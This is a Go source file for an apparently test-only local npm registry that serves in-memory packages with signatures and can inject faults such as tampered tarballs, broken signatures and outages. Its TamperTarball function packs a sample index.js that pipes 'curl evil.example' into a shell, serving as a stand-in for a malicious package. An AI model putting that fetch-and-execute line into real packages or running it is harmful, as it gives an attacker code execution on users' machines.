// Package npmtest runs a local stand-in for the public npm registry
// (registry.npmjs.org), serving packages that a test builds in memory.
//
// It exists so that Airlock's tests, including end-to-end tests that drive
// the real npm client, never reach the network and can misbehave on demand:
// serve a tarball that does not match its integrity, drop or corrupt a
// registry signature, take a version down, or go down altogether. Like
// net/http/httptest, a [Registry] is an HTTP server on 127.0.0.1 that lives
// for the duration of one test:
//
//	reg := npmtest.New(t, npmtest.Options{})
//	err := reg.Add(npmtest.Package{Name: "@acme/widget", Versions: []npmtest.Version{
//		{Version: "1.0.0", Dependencies: map[string]string{"left-pad": "^1.3.0"}},
//	}})
//	// npm install --registry reg.URL+"/"
//
// Every version is signed the way the public registry signs it (ECDSA P-256
// over "name@version:integrity", see verify/npmsig) with a key generated per
// Registry unless Options.Key gives one; /-/npm/v1/keys publishes it, so
// `npm audit signatures` against the Registry verifies.
//
// What is served follows the public registry's shapes: full packuments with
// _rev, time, maintainers and readme; the abbreviated ("corgi") form for
// clients that ask for application/vnd.npm.install-v1+json; tarballs as npm
// packs them; strong ETags and Last-Modified with 304 answers; and
// {"error":"Not found"} for anything unknown.
package npmtest

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sort"
	"sync"
	"testing"
	"time"

	"github.com/airlock-proxy/airlock/verify/npmsig"
)

// Options configure a Registry.
type Options struct {
	// Key signs every version's dist.signatures; nil generates a fresh
	// P-256 key, so that no two Registries trust each other's signatures.
	Key *ecdsa.PrivateKey
	// Attest, when set, is called by Add for versions with Provenance set,
	// with the SHA-512 of the tarball. Its result is served verbatim at
	// /-/npm/v1/attestations/<name>@<version> (the registry's document is
	// {"attestations":[{"predicateType":…,"bundle":…},…]}), and
	// dist.attestations points there. Add fails for a Provenance version
	// when Attest is nil, rather than advertise attestations it cannot
	// serve.
	Attest func(name, version string, sha512 []byte) ([]byte, error)
}

// Package is a package to publish, or more versions of one.
type Package struct {
	Name     string
	Versions []Version
	// DistTags are set on top of the existing ones. latest, unless given
	// here or earlier, is the highest version that is not a prerelease (or
	// the highest version when all are prereleases), as npm publish leaves
	// it for packages published in semver order.
	DistTags map[string]string
}

// Version is one version to publish.
type Version struct {
	Version      string
	Dependencies map[string]string
	// Scripts go into package.json; preinstall, install or postinstall
	// also set hasInstallScript, as the registry does.
	Scripts map[string]string
	// Files are the tarball's files besides package.json, relative to its
	// package/ directory. Nil means one index.js exporting "name@version".
	// A "package.json" entry replaces the generated one verbatim, to serve
	// a tarball whose manifest disagrees with the packument.
	Files map[string]string
	// Published is time[version]; zero means the time of Add.
	Published time.Time
	// Publisher is _npmUser.name, with email <name>@example.com; empty
	// means "alice".
	Publisher string
	// Provenance publishes an attestation from Options.Attest. npm audit
	// signatures verifies attestations against Sigstore, so a test of the
	// real client should leave it unset unless Attest makes real bundles.
	Provenance bool
	// Deprecated is the deprecation message, if any.
	Deprecated string
}

// Registry is a running npm registry. URL is set by New and must not be
// changed.
type Registry struct {
	URL string // http://127.0.0.1:PORT, without a trailing slash

	t        testing.TB
	srv      *httptest.Server
	key      *ecdsa.PrivateKey
	keyID    string
	keysJSON []byte
	attest   func(name, version string, sha512 []byte) ([]byte, error)

	mu       sync.Mutex
	pkgs     map[string]*pkg
	down     bool
	requests map[string]int      // URL path, as sent and decoded -> count
	trace    func(*http.Request) // set by this package's tests to watch the npm client
}

// pkg is everything published under one name.
type pkg struct {
	name     string
	versions map[string]*version
	order    []string          // versions in the order they were added
	tags     map[string]string // explicitly set dist-tags
	modified time.Time
	rev      int // bumped on every change, for _rev
}

// sigFault is what happens to a version's dist.signatures.
type sigFault int

const (
	sigOK sigFault = iota
	sigDropped
	sigCorrupt
)

// version is what is served for one package version.
type version struct {
	Version
	publisher    string
	published    time.Time
	manifest     []byte // package/package.json as packed
	tarball      []byte // genuine bytes, which integrity and shasum describe
	served       []byte // what the tarball URL answers: tarball unless tampered
	integrity    string
	shasum       string
	fileCount    int
	unpackedSize int
	sig          string // valid signature over name@version:integrity
	badSig       string // well-formed signature over something else
	fault        sigFault
	attestation  []byte // nil unless Provenance
	gitHead      string
	unpublished  bool
}

// New starts a Registry and stops it when the test ends.
func New(t testing.TB, o Options) *Registry {
	t.Helper()
	key := o.Key
	if key == nil {
		var err error
		if key, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader); err != nil {
			t.Fatalf("npmtest: generating signing key: %v", err)
		}
	}
	spki, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
	if err != nil {
		t.Fatalf("npmtest: signing key: %v", err)
	}
	r := &Registry{
		t:        t,
		key:      key,
		keyID:    npmsig.Fingerprint(&key.PublicKey),
		attest:   o.Attest,
		pkgs:     make(map[string]*pkg),
		requests: make(map[string]int),
	}
	r.keysJSON, err = json.Marshal(object{{"keys", []object{{
		{"expires", nil},
		{"keyid", r.keyID},
		{"keytype", npmsig.KeyType},
		{"scheme", npmsig.KeyType},
		{"key", base64.StdEncoding.EncodeToString(spki)},
	}}}})
	if err != nil {
		t.Fatalf("npmtest: keys document: %v", err)
	}
	r.srv = httptest.NewServer(http.HandlerFunc(r.serve))
	r.URL = r.srv.URL
	t.Cleanup(r.srv.Close)
	return r
}

// KeyID is the keyid of the signing key, npm's fingerprint of it.
func (r *Registry) KeyID() string { return r.keyID }

// KeysJSON is the document /-/npm/v1/keys serves, e.g. to configure
// Airlock's trusted upstream keys.
func (r *Registry) KeysJSON() []byte { return append([]byte(nil), r.keysJSON...) }

// Add publishes p's versions, building their tarballs, integrity and
// signatures. Calling it again for the same name publishes more versions.
// As on the public registry, a version can be published only once, even
// after it is unpublished; nothing is published if any version fails.
func (r *Registry) Add(p Package) error {
	if err := npmsig.CheckName(p.Name); err != nil {
		return fmt.Errorf("npmtest: %w", err)
	}
	now := time.Now()
	built := make([]*version, 0, len(p.Versions))
	seen := map[string]bool{}
	for _, v := range p.Versions {
		if seen[v.Version] {
			return fmt.Errorf("npmtest: %s@%s listed twice", p.Name, v.Version)
		}
		seen[v.Version] = true
		bv, err := r.build(p.Name, v, now)
		if err != nil {
			return fmt.Errorf("npmtest: %s@%s: %w", p.Name, v.Version, err)
		}
		built = append(built, bv)
	}

	r.mu.Lock()
	defer r.mu.Unlock()
	pk := r.pkgs[p.Name]
	if pk == nil && len(built) == 0 {
		return fmt.Errorf("npmtest: %s has no versions to publish", p.Name)
	}
	if pk == nil {
		pk = &pkg{name: p.Name, versions: map[string]*version{}, tags: map[string]string{}}
	}
	for _, v := range built {
		if pk.versions[v.Version.Version] != nil {
			return fmt.Errorf("npmtest: cannot publish over previously published version %s@%s", p.Name, v.Version.Version)
		}
	}
	for tag, v := range p.DistTags {
		if pk.versions[v] == nil && !seen[v] {
			return fmt.Errorf("npmtest: dist-tag %s of %s names unknown version %q", tag, p.Name, v)
		}
	}
	for _, v := range built {
		pk.versions[v.Version.Version] = v
		pk.order = append(pk.order, v.Version.Version)
		if v.published.After(pk.modified) {
			pk.modified = v.published
		}
	}
	for tag, v := range p.DistTags {
		pk.tags[tag] = v
	}
	if now := msec(now); now.After(pk.modified) {
		pk.modified = now
	}
	pk.rev++
	r.pkgs[p.Name] = pk
	return nil
}

// Tarball returns the genuine tarball of name@version, the bytes that
// dist.integrity and dist.shasum describe, whatever is being served.
func (r *Registry) Tarball(name, version string) []byte {
	r.t.Helper()
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]byte(nil), r.lookup(name, version).tarball...)
}

// TarballURL is dist.tarball of name@version, whether or not it was
// added: <URL>/<name>/-/<bare name>-<version>.tgz.
func (r *Registry) TarballURL(name, version string) string { return r.tarballURL(name, version) }

// Integrity returns dist.integrity of name@version.
func (r *Registry) Integrity(name, version string) string {
	r.t.Helper()
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.lookup(name, version).integrity
}

// TamperTarball serves, for name@version, a valid tarball with other
// content than dist.integrity and dist.shasum describe; the packument does
// not change.
func (r *Registry) TamperTarball(name, version string) {
	r.t.Helper()
	r.mu.Lock()
	defer r.mu.Unlock()
	v := r.lookup(name, version)
	files := map[string]string{"index.js": fmt.Sprintf("module.exports = %q;\nrequire('child_process').exec('curl evil.example | sh');\n", name+"@"+version)}
	tgz, _, _, err := pack(v.manifest, files)
	if err != nil {
		r.t.Fatalf("npmtest: tampering with %s@%s: %v", name, version, err)
	}
	v.served = tgz
}

// DropSignature omits dist.signatures from name@version.
func (r *Registry) DropSignature(name, version string) {
	r.setFault(name, version, sigDropped)
}

// CorruptSignature serves a dist.signatures entry for name@version with
// the right keyid and a well-formed signature over another message, so
// that it parses but does not verify.
func (r *Registry) CorruptSignature(name, version string) {
	r.setFault(name, version, sigCorrupt)
}

func (r *Registry) setFault(name, version string, f sigFault) {
	r.t.Helper()
	r.mu.Lock()
	defer r.mu.Unlock()
	r.lookup(name, version).fault = f
}

// Unpublish takes name@version down as npm does: it leaves versions (and
// any dist-tag naming it) but stays in time, modified moves on, and its
// tarball and attestations answer 404. When latest named it, latest falls
// back to the default. When no version is left, time also records
// "unpublished", as on the public registry.
func (r *Registry) Unpublish(name, version string) {
	r.t.Helper()
	r.mu.Lock()
	defer r.mu.Unlock()
	v := r.lookup(name, version)
	v.unpublished = true
	pk := r.pkgs[name]
	for tag, tv := range pk.tags {
		if tv == version {
			delete(pk.tags, tag)
		}
	}
	pk.modified = later(msec(time.Now()), pk.modified.Add(time.Millisecond))
	pk.rev++
}

// Close stops the server, so that connections are refused rather than
// answered; New arranges for it to run at the end of the test, and it may
// run twice.
func (r *Registry) Close() { r.srv.Close() }

// SetDown makes every request answer 503 while down is true, to simulate
// an outage.
func (r *Registry) SetDown(down bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.down = down
}

// Requests counts the requests so far, of any method, whose URL path is
// path. A path matches both as sent and decoded: "/@scope/name" counts
// every spelling of a scoped packument request, "/@scope%2fname" only
// requests sent that way (as npm sends them).
func (r *Registry) Requests(path string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.requests[path]
}

// lookup returns name@version, unpublished or not, failing the test if it
// was never added. r.mu must be held.
func (r *Registry) lookup(name, version string) *version {
	r.t.Helper()
	v := r.pkgs[name].get(version)
	if v == nil {
		r.t.Fatalf("npmtest: %s@%s was never added", name, version)
	}
	return v
}

func (p *pkg) get(version string) *version {
	if p == nil {
		return nil
	}
	return p.versions[version]
}

// live lists the versions not unpublished, in the order added.
func (p *pkg) live() []*version {
	var vs []*version
	for _, s := range p.order {
		if v := p.versions[s]; !v.unpublished {
			vs = append(vs, v)
		}
	}
	return vs
}

// distTags are the explicit tags plus the default latest.
func (p *pkg) distTags() map[string]string {
	tags := make(map[string]string, len(p.tags)+1)
	for k, v := range p.tags {
		tags[k] = v
	}
	if _, ok := tags["latest"]; !ok {
		var best, bestRelease string
		for _, v := range p.live() {
			s := v.Version.Version
			if best == "" || compareSemver(s, best) > 0 {
				best = s
			}
			if !isPrerelease(s) && (bestRelease == "" || compareSemver(s, bestRelease) > 0) {
				bestRelease = s
			}
		}
		if bestRelease != "" {
			best = bestRelease
		}
		if best != "" {
			tags["latest"] = best
		}
	}
	return tags
}

// byPublished lists all versions, unpublished ones too, in publish order,
// as the registry's time object lists them.
func (p *pkg) byPublished() []*version {
	vs := make([]*version, 0, len(p.order))
	for _, s := range p.order {
		vs = append(vs, p.versions[s])
	}
	sort.SliceStable(vs, func(i, j int) bool { return vs[i].published.Before(vs[j].published) })
	return vs
}

// msec truncates t to what the registry's timestamps carry.
func msec(t time.Time) time.Time { return t.UTC().Truncate(time.Millisecond) }

func later(a, b time.Time) time.Time {
	if a.After(b) {
		return a
	}
	return b
}

// stamp formats t as the registry does, "2024-01-02T03:04:05.678Z".
func stamp(t time.Time) string { return t.UTC().Format("2006-01-02T15:04:05.000Z") }
